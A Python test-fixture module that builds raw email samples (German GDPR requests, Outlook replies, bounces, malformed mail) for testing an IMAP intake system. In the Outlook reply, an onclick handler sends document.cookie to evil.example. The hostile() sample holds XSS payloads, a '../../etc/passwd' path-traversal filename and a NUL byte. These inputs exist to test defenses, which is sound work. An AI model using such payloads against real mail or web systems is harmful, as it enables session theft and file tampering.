"""Real-world mail as delivered (RFC 5322 bytes, CRLF line endings), for the IMAP intake tests.

The stdlib email package builds the well-formed ones; the hostile ones are written out byte by
byte, because the stdlib would repair what must stay broken.
"""

from __future__ import annotations

import base64
import io
import random
import struct
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from email import policy
from email.charset import QP, Charset
from email.header import Header
from email.message import EmailMessage
from email.utils import format_datetime, formataddr, make_msgid, parseaddr

PRIVACY = "privacy@example.test"
DATE = datetime(2026, 10, 28, 8, 15, tzinfo=timezone(timedelta(hours=1)))
JUERGEN = "Jürgen Müller <juergen.mueller@example.de>"
# The en dash is not in ISO-8859-1: the subject must go out as UTF-8 encoded words.
GERMAN_SUBJECT = "Auskunftsersuchen gemäß Art. 15 DSGVO – Bitte um Kopie meiner Daten"  # noqa: RUF001
GERMAN_BODY = """\
Sehr geehrte Damen und Herren,

gemäß Art. 15 DSGVO bitte ich um Auskunft, ob Sie personenbezogene Daten über mich
verarbeiten, und gegebenenfalls um eine Kopie dieser Daten.

Bitte teilen Sie mir außerdem mit:
- die Zwecke der Verarbeitung,
- die Empfänger, an die meine Daten übermittelt wurden,
- wie lange meine Daten gespeichert werden.

Meine Anschrift: Jürgen Müller, Königstraße 12, 70173 Stuttgart
Kundennummer: 0815-4711

Mit freundlichen Grüßen
Jürgen Müller
"""
AUTO_REPLY_HEADERS = {
    "auto-submitted": ("Auto-Submitted", "auto-replied"),
    "x-autoreply": ("X-Autoreply", "yes"),
    "precedence-bulk": ("Precedence", "bulk"),
    "precedence-auto_reply": ("Precedence", "auto_reply"),
}


def german_request(
    *,
    sender: str = JUERGEN,
    to: str = PRIVACY,
    subject: str = GERMAN_SUBJECT,
    message_id: str = "<auskunft-4711@example.de>",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build an access request: UTF-8 encoded-word subject, Latin-1 name and 8bit body."""
    name, address = parseaddr(sender)
    return _lines(
        f"From: {_encoded(name, 'iso-8859-1')} <{address}>",
        f"To: {to}",
        f"Subject: {_encoded(subject)}",
        f"Date: {format_datetime(date)}",
        f"Message-ID: {_angle(message_id)}",
        *([f"In-Reply-To: {_angle(in_reply_to)}"] if in_reply_to else []),
        "User-Agent: Mozilla Thunderbird",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=ISO-8859-1",
        "Content-Transfer-Encoding: 8bit",
        "",
        *(line.encode("iso-8859-1") for line in GERMAN_BODY.splitlines()),
    )


def outlook_html_reply(
    in_reply_to: str,
    subject: str = GERMAN_SUBJECT,
    *,
    sender: str = JUERGEN,
    to: str = PRIVACY,
    message_id: str = "<AM9PR07MB71234A5B6C7D8E9F0@AM9PR07MB7123.eurprd07.prod.outlook.com>",
    references: str | None = None,
    date: datetime = DATE + timedelta(days=5),
) -> bytes:
    """Build Outlook's HTML-only reply "AW: SUBJECT": quoted history, <script>, onclick."""
    message = _message(
        sender,
        to,
        f"AW: {subject}",
        message_id,
        date,
        in_reply_to=in_reply_to,
        references=references or _angle(in_reply_to),
    )
    message["Thread-Topic"] = subject
    message["Thread-Index"] = "AQHZ8k2TmXq3b0cVJkOx7Ywq5xN2Fg=="
    message["Accept-Language"] = "de-DE, en-US"
    message["Content-Language"] = "de-DE"
    message["X-MS-Has-Attach"] = "no"
    html = f"""\
<html xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style><!--
p.MsoNormal {{margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}}
--></style>
</head>
<body lang="DE" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Sehr geehrte Damen und Herren,<o:p></o:p></p>
<p class="MsoNormal">anbei wie gewünscht meine Kundennummer: 0815-4711. Mein Profil finden Sie
<a href="https://example.de/profil" onclick="fetch('https://evil.example/?c='+document.cookie)">hier</a>.<o:p></o:p></p>
<script>alert(document.cookie)</script>
<p class="MsoNormal">Mit freundlichen Grüßen<br>Jürgen Müller<o:p></o:p></p>
</div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr">
<font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">
<b>From:</b> Datenschutz &lt;{PRIVACY}&gt;<br>
<b>Sent:</b> Monday, November 2, 2026 10:05 AM<br>
<b>To:</b> Jürgen Müller &lt;juergen.mueller@example.de&gt;<br>
<b>Subject:</b> {subject}</font>
<div>&nbsp;</div>
</div>
<div>
<p class="MsoNormal">Sehr geehrter Herr Müller,<br>
wir haben Ihr Auskunftsersuchen erhalten. Bitte nennen Sie uns Ihre Kundennummer.<br>
Ihr Datenschutz-Team</p>
<p class="MsoNormal">-----Original Message-----<br>
From: Jürgen Müller &lt;juergen.mueller@example.de&gt;<br>
Sent: Wednesday, October 28, 2026 8:15 AM<br>
To: {PRIVACY}<br>
Subject: {subject}</p>
<p class="MsoNormal">Sehr geehrte Damen und Herren,<br>
gemäß Art. 15 DSGVO bitte ich um Auskunft über meine Daten.</p>
</div>
</body>
</html>
"""
    message.set_content(html, subtype="html", charset="utf-8", cte="quoted-printable")
    return _smtp(message)


def cp1252_complaint_with_attachments(
    *,
    sender: str = "Sabine Weiß <sabine.weiss@example.de>",
    to: str = PRIVACY,
    subject: str = "Beschwerde: Werbung trotz Widerspruch",
    message_id: str = "<beschwerde-0042@example.de>",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build a complaint in Windows-1252 (smart quotes, €) with a PDF and a JPEG attached."""
    message = _message(sender, to, subject, message_id, date, in_reply_to=in_reply_to)
    message["X-Mailer"] = "Microsoft Outlook 16.0"
    # Quotes, dash and euro sign are where Windows-1252 differs from ISO-8859-1.
    message.set_content(
        "Sehr geehrte Damen und Herren,\n\n"
        "ich habe am 3. März der Nutzung meiner Daten für Werbung widersprochen. Trotzdem\n"
        "bekomme ich weiter „Angebote“ und Ihren “Newsletter” – zuletzt mit einem Gutschein\n"  # noqa: RUF001
        "über 50 €.\n\n"
        "Anbei Ihr Schreiben (PDF) und ein Foto des Umschlags.\n\n"
        "Sabine Weiß\n",
        charset="windows-1252",
        cte="quoted-printable",
    )
    message.add_attachment(
        tiny_pdf("Ihr Schreiben vom 12.10.2026"),
        maintype="application",
        subtype="pdf",
        filename="Schreiben_12.10.2026.pdf",
    )
    message.add_attachment(
        tiny_jpeg(), maintype="image", subtype="jpeg", filename="Umschlag_Rückseite.jpg"
    )
    return _smtp(message)


def without_message_id(
    *,
    sender: str = "Max Mustermann <max.mustermann@example.org>",
    to: str = PRIVACY,
    subject: str = "Bitte löschen Sie meine Daten",
    in_reply_to: str | None = None,
    date: datetime = DATE,
) -> bytes:
    """Build an erasure request without a Message-ID header."""
    message = _message(sender, to, subject, None, date, in_reply_to=in_reply_to)
    message.set_content(
        "Hallo,\n\nbitte löschen Sie alle Daten, die Sie über mich gespeichert haben.\n\n"
        "Max Mustermann\n"
    )
    return _smtp(message)


def forwarded_rfc822(
    forwarded: bytes | None = None,
    *,
    sender: str = "Kundenservice <service@example.test>",
    to: str = PRIVACY,
    subject: str = "WG: Auskunftsersuchen nach Art. 15 DSGVO",
    message_id: str = "<weiterleitung-17@example.test>",
    date: datetime = DATE + timedelta(hours=2),
) -> bytes:
    """Forward FORWARDED (default: german_request()) as a message/rfc822 attachment."""
    inner = german_request() if forwarded is None else forwarded
    boundary = b"----=_Part_fwd_4711"
    return b"".join(
        [
            _head(sender, to, subject, message_id, date),
            _lines(
                "MIME-Version: 1.0",
                f'Content-Type: multipart/mixed; boundary="{boundary.decode()}"',
                "",
                "This is a multi-part message in MIME format.",
                b"--" + boundary,
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit",
                "",
                "Hallo Datenschutz-Team,",
                "",
                "bitte kümmert euch um die weitergeleitete Anfrage im Anhang.",
                "",
                "Viele Grüße",
                "Kundenservice",
                b"--" + boundary,
                "Content-Type: message/rfc822",
                'Content-Disposition: attachment; filename="Auskunftsersuchen.eml"',
                "",
            ),
            inner,
            # The CRLF before a boundary belongs to the boundary: this one keeps INNER whole.
            _lines("", b"--" + boundary + b"--"),
        ]
    )


def auto_reply(
    in_reply_to: str,
    *,
    kind: str = "auto-submitted",
    sender: str = JUERGEN,
    to: str = PRIVACY,
    subject: str = "Automatische Antwort: Ihr Auskunftsersuchen",
    message_id: str | None = None,
    date: datetime = DATE + timedelta(days=5),
) -> bytes:
    """Build an out-of-office reply, marked the way KIND names (see AUTO_REPLY_HEADERS)."""
    if kind not in AUTO_REPLY_HEADERS:
        raise ValueError(f"kind must be one of {', '.join(AUTO_REPLY_HEADERS)}, not {kind!r}")
    message = _message(
        sender,
        to,
        subject,
        message_id or f"<abwesend-{kind}@example.de>",
        date,
        in_reply_to=in_reply_to,
        references=_angle(in_reply_to),
    )
    name, value = AUTO_REPLY_HEADERS[kind]
    message[name] = value
    message.set_content(
        "Vielen Dank für Ihre Nachricht. Ich bin bis zum 16. November nicht im Büro\n"
        "und lese meine E-Mails nicht. Ihre Nachricht wird nicht weitergeleitet.\n"
    )
    return _smtp(message)


def dsn_bounce(
    original_message_id: str,
    original_to: str = "juergen.mueller@example.de",
    *,
    original_from: str = PRIVACY,
    original_subject: str = "Ihr Auskunftsersuchen",
    to: str = PRIVACY,
    message_id: str = "<20261102090512.4F2A1C0123@mail.example.test>",
    date: datetime = DATE + timedelta(days=5),
) -> bytes:
    """Bounce a message to ORIGINAL_TO as Postfix does (multipart/report, delivery-status)."""
    boundary = "4F2A1C0123.1793610312/mail.example.test"
    stamp = format_datetime(date)
    return _lines(
        "From: MAILER-DAEMON@mail.example.test (Mail Delivery System)",
        "Subject: Undelivered Mail Returned to Sender",
        f"To: {to}",
        "Auto-Submitted: auto-replied",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status;",
        f'\tboundary="{boundary}"',
        "Content-Transfer-Encoding: 8bit",
        f"Message-Id: {_angle(message_id)}",
        f"Date: {stamp}",
        "",
        "This is a MIME-encapsulated message.",
        "",
        f"--{boundary}",
        "Content-Description: Notification",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "This is the mail system at host mail.example.test.",
        "",
        "I'm sorry to have to inform you that your message could not",
        "be delivered to one or more recipients. It's attached below.",
        "",
        "For further assistance, please send mail to postmaster.",
        "",
        "                   The mail system",
        "",
        f"<{original_to}>: host mx.example.de[192.0.2.25] said: 550 5.1.1",
        f"    <{original_to}>: Recipient address rejected: User unknown (in reply to RCPT",
        "    TO command)",
        "",
        f"--{boundary}",
        "Content-Description: Delivery report",
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mail.example.test",
        "X-Postfix-Queue-ID: 4F2A1C0123",
        f"X-Postfix-Sender: rfc822; {original_from}",
        f"Arrival-Date: {stamp}",
        "",
        f"Final-Recipient: rfc822; {original_to}",
        f"Original-Recipient: rfc822;{original_to}",
        "Action: failed",
        "Status: 5.1.1",
        "Remote-MTA: dns; mx.example.de",
        f"Diagnostic-Code: smtp; 550 5.1.1 <{original_to}>: Recipient address rejected:",
        "    User unknown",
        "",
        f"--{boundary}",
        "Content-Description: Undelivered Message Headers",
        "Content-Type: text/rfc822-headers",
        "",
        f"Return-Path: <{original_from}>",
        f"From: {original_from}",
        f"To: {original_to}",
        f"Subject: {_encoded(original_subject)}",
        f"Message-ID: {_angle(original_message_id)}",
        f"Date: {stamp}",
        "",
        f"--{boundary}--",
    )


def large_attachment(
    size: int = 40 * 1024 * 1024,
    *,
    sender: str = "Scanner <scanner@example.org>",
    to: str = PRIVACY,
    subject: str = "Scan meiner Unterlagen",
    message_id: str = "<gross-1@example.org>",
    filename: str = "unterlagen.bin",
    date: datetime = DATE,
) -> bytes:
    """Build a message with one attachment of SIZE pseudo-random bytes (same SIZE, same bytes)."""
    boundary = "large-attachment-boundary"
    out = io.BytesIO()
    out.write(_head(sender, to, subject, message_id, date))
    out.write(
        _lines(
            "MIME-Version: 1.0",
            f'Content-Type: multipart/mixed; boundary="{boundary}"',
            "",
            f"--{boundary}",
            "Content-Type: text/plain; charset=utf-8",
            "",
            "Anbei alle Unterlagen in einer Datei.",
            f"--{boundary}",
            "Content-Type: application/octet-stream",
            "Content-Transfer-Encoding: base64",
            f'Content-Disposition: attachment; filename="{filename}"',
            "",
        )
    )
    # 57 bytes make one 76-character base64 line; building chunk by chunk keeps memory low.
    chunk = 57 * 1024
    numbers = random.Random(size)
    for start in range(0, size, chunk):
        encoded = base64.b64encode(numbers.randbytes(min(chunk, size - start)))
        out.write(b"\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76)))
        out.write(b"\r\n")
    out.write(_lines(f"--{boundary}--"))
    return out.getvalue()


def malformed_mime(
    *,
    sender: str = "Broken Mailer <broken@example.net>",
    to: str = PRIVACY,
    subject: str = "Antrag auf Löschung",
    message_id: str = "<kaputt-1@example.net>",
    date: datetime = DATE,
) -> bytes:
    """Build a multipart without closing boundary, with a bogus encoding and a colonless header."""
    return b"".join(
        [
            _head(sender, to, subject, message_id, date),
            _lines(
                "MIME-Version: 1.0",
                'Content-Type: multipart/mixed; boundary="kaputt-boundary"',
                "X-Header-Without-Colon sent by a broken mailer",
                "",
                "--kaputt-boundary",
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: x-bogus-encoding",
                "",
                "Bitte löschen Sie alle meine Daten.",
                "--kaputt-boundary",
                "Content-Type: application/pdf",
                "Content-Transfer-Encoding: base64",
                'Content-Disposition: attachment; filename="antrag.pdf"',
                "",
                base64.b64encode(tiny_pdf("Antrag"))[:60],
                "--kaputt-boundary-wrong--",
                "und dann bricht die Nachricht einfach ab",
            ),
        ]
    )


def hostile(
    *,
    sender: str = "Mallory <mallory@example.net>",
    to: str = PRIVACY,
    message_id: str = "<boese-1@example.net>",
    date: datetime = DATE,
) -> bytes:
    """Build mail to break things: 10,000-character subject, NUL in the body, evil file names."""
    start = "<img src=x onerror=alert(1)> Auskunft "
    subject = (start + "A" * 10_000)[:10_000]
    boundary = "hostile-boundary"
    return b"".join(
        [
            # One physical line, far over RFC 5322's 998: written by hand, never folded.
            _head(sender, to, subject, message_id, date, fold=False),
            _lines(
                "MIME-Version: 1.0",
                f'Content-Type: multipart/mixed; boundary="{boundary}"',
                "",
                f"--{boundary}",
                "Content-Type: text/plain; charset=utf-8",
                "Content-Transfer-Encoding: 8bit",
                "",
                b"Auskunft bitte.\x00Nach dem NUL geht es weiter.",
                f"--{boundary}",
                'Content-Type: text/plain; name="../../etc/passwd"',
                'Content-Disposition: attachment; filename="../../etc/passwd"',
                "",
                "root:x:0:0:root:/root:/bin/bash",
                f"--{boundary}",
                'Content-Type: text/html; name="<script>.html"',
                'Content-Disposition: attachment; filename="<script>.html"',
                "",
                "<script>alert(document.cookie)</script>",
                f"--{boundary}--",
            ),
        ]
    )


def plain(
    subject: str,
    body: str,
    *,
    sender: str,
    to: str = PRIVACY,
    message_id: str | None = None,
    in_reply_to: str | None = None,
    references: str | None = None,
    attachment_bytes: bytes | None = None,
    attachment_name: str = "anhang.bin",
    date: datetime = DATE,
) -> bytes:
    """Build a plain UTF-8 message: a fresh Message-ID unless given, References = In-Reply-To."""
    if message_id is None:
        message_id = make_msgid(domain=parseaddr(sender)[1].partition("@")[2] or "example.org")
    if references is None and in_reply_to is not None:
        references = _angle(in_reply_to)
    message = _message(
        sender, to, subject, message_id, date, in_reply_to=in_reply_to, references=references
    )
    message.set_content(body)
    if attachment_bytes is not None:
        message.add_attachment(
            attachment_bytes,
            maintype="application",
            subtype="octet-stream",
            filename=attachment_name,
        )
    return _smtp(message)


def bulk(
    n: int, *, attachment_every: int = 10, attachment_size: int = 1024 * 1024
) -> Iterator[bytes]:
    """Yield N distinct requests for load tests; every ATTACHMENT_EVERY-th has a file."""
    for i in range(n):
        attachment = None
        if attachment_every and i % attachment_every == 0:
            attachment = random.Random(i).randbytes(attachment_size)
        yield plain(
            f"Auskunftsersuchen Nr. {i}",
            f"Bitte um Auskunft nach Art. 15 DSGVO.\n\nKundennummer: {100000 + i}\n",
            sender=f"Person {i} <person{i:06d}@example.org>",
            message_id=f"<bulk-{i:06d}@example.org>",
            attachment_bytes=attachment,
            attachment_name=f"nachweis-{i}.bin",
            date=DATE + timedelta(minutes=i),
        )


def tiny_pdf(text: str) -> bytes:
    """Build a valid one-page PDF showing TEXT (ASCII, no parentheses)."""
    content = f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return pdf


def tiny_jpeg() -> bytes:
    """Build a valid baseline JPEG: 8x8 pixels of mid grey (libjpeg-turbo and Pillow decode it)."""

    def segment(marker: int, payload: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload

    one_code = bytes([1] + [0] * 15) + b"\x00"
    return b"".join(
        [
            b"\xff\xd8",
            segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            segment(0xDB, b"\x00" + bytes([1] * 64)),
            segment(0xC0, b"\x08" + struct.pack(">HH", 8, 8) + b"\x01\x01\x11\x00"),
            # Huffman tables of one 1-bit code each: DC difference 0, AC end of block.
            segment(0xC4, b"\x00" + one_code),
            segment(0xC4, b"\x10" + one_code),
            segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            # The one block: bits 0 (DC) and 0 (end of block), padded with 1s.
            b"\x3f",
            b"\xff\xd9",
        ]
    )


def _angle(message_id: str) -> str:
    return message_id if message_id.startswith("<") else f"<{message_id}>"


def _message(
    sender: str,
    to: str,
    subject: str,
    message_id: str | None,
    date: datetime,
    *,
    in_reply_to: str | None = None,
    references: str | None = None,
) -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(date)
    if message_id is not None:
        message["Message-ID"] = _angle(message_id)
    if in_reply_to is not None:
        message["In-Reply-To"] = _angle(in_reply_to)
    if references is not None:
        message["References"] = references
    return message


def _smtp(message: EmailMessage) -> bytes:
    if message.is_multipart():
        # The stdlib picks a random boundary; the same sample should be the same bytes.
        # "=_" never occurs in base64 or quoted-printable text.
        message.set_boundary("=_casetracker_sample")
    return message.as_bytes(policy=policy.SMTP)


def _encoded(value: str, charset: str = "utf-8") -> str:
    if value.isascii():
        return value
    # Q encoding, as Thunderbird writes it: the stdlib would choose base64 for UTF-8.
    encoding = Charset(charset)
    encoding.header_encoding = QP
    return Header(value, encoding).encode(linesep="\r\n")


def _head(
    sender: str, to: str, subject: str, message_id: str, date: datetime, *, fold: bool = True
) -> bytes:
    return _lines(
        f"From: {formataddr(parseaddr(sender), charset='utf-8')}",
        f"To: {to}",
        f"Subject: {_encoded(subject) if fold else subject}",
        f"Date: {format_datetime(date)}",
        f"Message-ID: {_angle(message_id)}",
    )


def _lines(*lines: str | bytes) -> bytes:
    return b"".join(
        (line if isinstance(line, bytes) else line.encode()) + b"\r\n" for line in lines
    )
